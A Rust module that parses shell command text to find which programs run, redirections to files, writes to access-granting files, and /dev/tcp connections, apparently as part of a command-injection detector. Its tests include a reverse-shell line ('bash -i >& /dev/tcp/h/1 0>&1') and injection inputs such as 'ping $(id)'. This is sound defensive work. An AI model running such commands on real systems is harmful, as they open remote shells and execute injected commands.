//! A shell's command text, taken apart as far as it says who runs (POSIX.1-2017, XCU 2).

use super::names::SECRETS;

/// Most commands of a text that are looked at.
const MAX_COMMANDS: usize = 64;
/// Most substitutions within one another that are looked into.
const MAX_DEPTH: u8 = 8;

/// One simple command.
#[derive(Clone, Debug, Default, PartialEq, Eq)]
pub struct Command {
    /// Where its first word begins.
    pub at: usize,
    /// Its words without quotes, the program first.
    pub words: Vec<String>,
}

/// A command text.
#[derive(Clone, Debug, Default, PartialEq, Eq)]
pub struct Script {
    /// Its commands in order.
    pub commands: Vec<Command>,
    /// Where a character stands that means something to the shell, and ends or begins a command, in order.
    pub joints: Vec<usize>,
    /// Whether the output of something goes to a file.
    pub writes: bool,
    /// Whether the output of something goes to a file that says who may come in.
    pub plants: bool,
    /// Whether a redirection opens a connection (Bash manual, 3.6).
    pub connects: bool,
}

impl Script {
    /// Takes a text apart.
    pub fn of(text: &str) -> Self {
        Reader::read_all(text, 0)
    }

    /// The programs that it runs, as far as their names stand there.
    pub fn programs(&self) -> impl Iterator<Item = (&str, &[String])> {
        self.programs_at().map(|(_, program, args)| (program, args))
    }

    /// The same, with where each command begins.
    pub fn programs_at(&self) -> impl Iterator<Item = (usize, &str, &[String])> {
        self.commands.iter().filter_map(|command| {
            // `NAME=value exec program`
            let before =
                |word: &&String| is_assignment(word) || matches!(word.as_str(), "exec" | "command" | "time");
            let before = command.words.iter().take_while(before).count();
            let (program, args) = command.words[before..].split_first()?;
            Some((command.at, program.as_str(), args))
        })
    }

    /// Counts what ends before a place in its text: commands with what they are joined to by `|`, `&&` and `||`.
    pub fn sentence(&self, text: &str, at: usize) -> usize {
        let ends = |joint: &&usize| **joint < at && text[**joint..].starts_with([';', '\n']);
        self.joints.iter().filter(ends).count()
    }
}

fn is_assignment(word: &str) -> bool {
    word.split_once('=').is_some_and(|(name, _)| {
        !name.is_empty() && name.bytes().all(|b| b.is_ascii_alphanumeric() || b == b'_')
    })
}

#[derive(Default)]
struct Reader<'a> {
    text: &'a str,
    at: usize,
    script: Script,
    command: Command,
    word: Option<(usize, String)>,
    /// How many substitutions it stands in.
    depth: u8,
}

impl Reader<'_> {
    fn read_all(text: &str, depth: u8) -> Script {
        let mut reader = Reader { text, depth, ..Reader::default() };
        reader.read();
        reader.end_command();
        reader.script.joints.sort_unstable();
        reader.script
    }

    fn read(&mut self) {
        let bytes = self.text.as_bytes();
        while let Some(&byte) = bytes.get(self.at) {
            if self.script.commands.len() >= MAX_COMMANDS {
                return;
            }
            match byte {
                b'\'' => self.single_quotes(),
                b'"' => self.double_quotes(),
                b'\\' => self.escape(),
                b' ' | b'\t' => {
                    self.end_word();
                    self.at += 1;
                }
                b'#' if self.word.is_none() => {
                    self.at = self.text[self.at..].find('\n').map_or(self.text.len(), |n| self.at + n);
                }
                b'<' | b'>' => self.redirection(),
                b';' | b'\n' | b'(' | b')' | b'`' => self.joint(1),
                b'&' if bytes.get(self.at + 1) == Some(&b'&') => self.joint(2),
                b'&' if bytes.get(self.at + 1) == Some(&b'>') => {
                    self.at += 1;
                    self.redirection();
                }
                b'&' => self.joint(1),
                b'|' => self.joint(if bytes.get(self.at + 1) == Some(&b'|') { 2 } else { 1 }),
                b'$' if bytes.get(self.at + 1) == Some(&b'(') => self.joint(2),
                _ => self.plain(),
            }
        }
    }

    fn plain(&mut self) {
        let Some(c) = self.text[self.at..].chars().next() else { return };
        self.push(c);
        self.at += c.len_utf8();
    }

    fn push(&mut self, c: char) {
        self.word.get_or_insert((self.at, String::new())).1.push(c);
    }

    fn single_quotes(&mut self) {
        let begin = self.at;
        let inner = &self.text[begin + 1..];
        let end = inner.find('\'').unwrap_or(inner.len());
        self.word.get_or_insert((begin, String::new())).1.push_str(&inner[..end]);
        self.at = (begin + end + 2).min(self.text.len());
    }

    fn double_quotes(&mut self) {
        self.word.get_or_insert((self.at, String::new()));
        self.at += 1;
        while let Some(c) = self.text[self.at..].chars().next() {
            match c {
                '"' => {
                    self.at += 1;
                    return;
                }
                '\\' => self.escape(),
                '`' => self.substitution(1),
                '$' if self.text[self.at..].starts_with("$(") => self.substitution(2),
                _ => self.plain(),
            }
        }
    }

    /// `$(...)` or `` `...` `` between quotes: what its commands print becomes part of the word.
    fn substitution(&mut self, opening: usize) {
        let begin = self.at;
        let inner = &self.text[begin + opening..];
        let mut open = 1;
        let end = inner.find(|c| {
            open += i32::from(c == '(' && opening == 2);
            open -= i32::from(if opening == 2 { c == ')' } else { c == '`' });
            open == 0
        });
        let end = end.unwrap_or(inner.len());
        self.script.joints.push(begin);
        if self.depth < MAX_DEPTH {
            let within = Self::read_all(&inner[..end], self.depth + 1);
            let moved = |command: Command| Command { at: command.at + begin + opening, ..command };
            let room = MAX_COMMANDS.saturating_sub(self.script.commands.len());
            self.script.commands.extend(within.commands.into_iter().take(room).map(moved));
            self.script.joints.extend(within.joints.iter().map(|at| at + begin + opening));
            self.script.writes |= within.writes;
            self.script.plants |= within.plants;
            self.script.connects |= within.connects;
        }
        self.at = (begin + opening + end + 1).min(self.text.len());
        self.word.get_or_insert((begin, String::new())).1.push_str(&self.text[begin..self.at]);
    }

    fn escape(&mut self) {
        self.at += 1;
        self.plain();
    }

    /// `> FILE`, `2>&1`, `< FILE`. Where it goes to nowhere, or to another descriptor, nothing is written.
    fn redirection(&mut self) {
        // A number before it is the descriptor.
        if self.word.as_ref().is_some_and(|(_, word)| word.bytes().all(|b| b.is_ascii_digit())) {
            self.word = None;
        }
        self.end_word();
        let rest = &self.text[self.at..];
        let signs = rest.find(|c| !matches!(c, '<' | '>' | '&' | '|')).unwrap_or(rest.len());
        let behind = rest[signs..].trim_start_matches([' ', '\t']);
        let end = behind.find(|c: char| c.is_whitespace() || ";&|()<>`".contains(c)).unwrap_or(behind.len());
        let target = behind[..end].trim_matches(['\'', '"']);
        let descriptor =
            rest[..signs].ends_with('&') && target.bytes().all(|b| b.is_ascii_digit() || b == b'-');
        if !matches!(target, "/dev/null" | "/dev/stdout" | "/dev/stderr") && !descriptor {
            self.script.joints.push(self.at);
            self.script.writes |= rest[..signs].contains('>');
            self.script.plants |=
                rest[..signs].contains('>') && SECRETS.iter().any(|file| target.ends_with(file));
            self.script.connects |= target.starts_with("/dev/tcp/") || target.starts_with("/dev/udp/");
        }
        self.at = self.text.len() - behind.len() + end;
    }

    fn joint(&mut self, len: usize) {
        self.end_word();
        let begin = self.at;
        self.at += len;
        self.end_command();
        self.script.joints.push(begin);
    }

    fn end_word(&mut self) {
        if let Some((at, word)) = self.word.take() {
            if self.command.words.is_empty() {
                self.command.at = at;
            }
            self.command.words.push(word);
        }
    }

    fn end_command(&mut self) {
        self.end_word();
        let command = std::mem::take(&mut self.command);
        if !command.words.is_empty() {
            self.script.commands.push(command);
        }
    }
}

#[cfg(test)]
mod tests {
    use super::*;

    fn programs(text: &str) -> Vec<String> {
        Script::of(text)
            .programs()
            .map(|(name, args)| [&[name.to_owned()], args].concat().join(" "))
            .collect()
    }

    #[test]
    fn commands() {
        let cases: &[(&str, &[&str])] = &[
            ("convert 'a b.png' -resize 10x10 \"c;d.png\"", &["convert a b.png -resize 10x10 c;d.png"]),
            ("/usr/sbin/sendmail -t -i", &["/usr/sbin/sendmail -t -i"]),
            ("ffmpeg -i a b 2>&1", &["ffmpeg -i a b"]),
            ("df -h >/dev/null 2> /dev/null", &["df -h"]),
            ("cd /repo && git pull", &["cd /repo", "git pull"]),
            ("ps aux | grep x", &["ps aux", "grep x"]),
            ("A=1 make;", &["make"]),
            ("exec 'git' 'log'", &["git log"]),
            ("ping 1.1.1.1; id", &["ping 1.1.1.1", "id"]),
            ("ping `id`", &["ping", "id"]),
            ("ping $(id)", &["ping", "id"]),
            ("echo \"a $(id) `who`\" b", &["id", "who", "echo a $(id) `who` b"]),
            ("echo \"$(echo \"$(id)\")\"", &["id", "echo $(id)", "echo $(echo \"$(id)\")"]),
            ("echo '$(id)'", &["echo $(id)"]),
            ("bash -i >& /dev/tcp/h/1 0>&1", &["bash -i"]),
            ("a\nb", &["a", "b"]),
            ("sleep 1 & w\\ho''ami", &["sleep 1", "whoami"]),
            ("echo \\; id", &["echo ; id"]),
            ("id # comment; x", &["id"]),
            ("'unended", &["unended"]),
            ("\"$(unended", &["unended", "$(unended"]),
            ("", &[]),
        ];
        for (text, expected) in cases {
            assert_eq!(programs(text), *expected, "{text}");
        }
    }

    #[test]
    fn where_its_output_goes() {
        let cases = [
            ("id > /tmp/x", (true, false)),
            ("echo \"$(id > /tmp/x)\"", (true, false)),
            ("x >> log 2>&1", (true, false)),
            ("x < in", (false, false)),
            ("x >/dev/null 2>&1", (false, false)),
            ("bash -i >& /dev/tcp/h/1 0>&1", (true, true)),
            ("exec 5<>/dev/tcp/h/1", (true, true)),
            ("x 2>&1 | y", (false, false)),
        ];
        for (text, expected) in cases {
            let script = Script::of(text);
            assert_eq!((script.writes, script.connects), expected, "{text}");
        }
    }

    #[test]
    fn any_text_is_read_to_its_end() {
        for text in
            ["\\", "\"\\", "$(", "`", "'", "2>", "&>", ">&", "é'é\"é\\é", "<<<", "&&||;;", "\"$(`\"$(é"]
        {
            for end in (0..=text.len()).filter(|end| text.is_char_boundary(*end)) {
                Script::of(&text[..end]);
            }
        }
        assert!(Script::of(&";a".repeat(10_000)).commands.len() <= MAX_COMMANDS);
        assert!(Script::of(&"\"$(".repeat(10_000)).commands.len() <= MAX_COMMANDS);
    }
}
